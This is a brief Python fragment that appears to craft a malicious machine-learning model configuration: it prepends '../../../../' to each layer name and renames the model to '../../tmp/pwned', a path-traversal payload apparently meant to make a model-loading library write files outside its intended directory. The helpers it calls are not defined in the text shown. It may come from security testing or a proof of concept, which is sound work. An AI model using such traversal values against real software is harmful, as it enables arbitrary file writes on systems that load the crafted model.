def change(config):
    for layer in config["config"]["layers"]:
        layer["config"]["name"] = "../../../../" + layer["config"]["name"]
    config["config"]["name"] = "../../tmp/pwned"


def build_model():
    return handing_in(reconfigured(change))
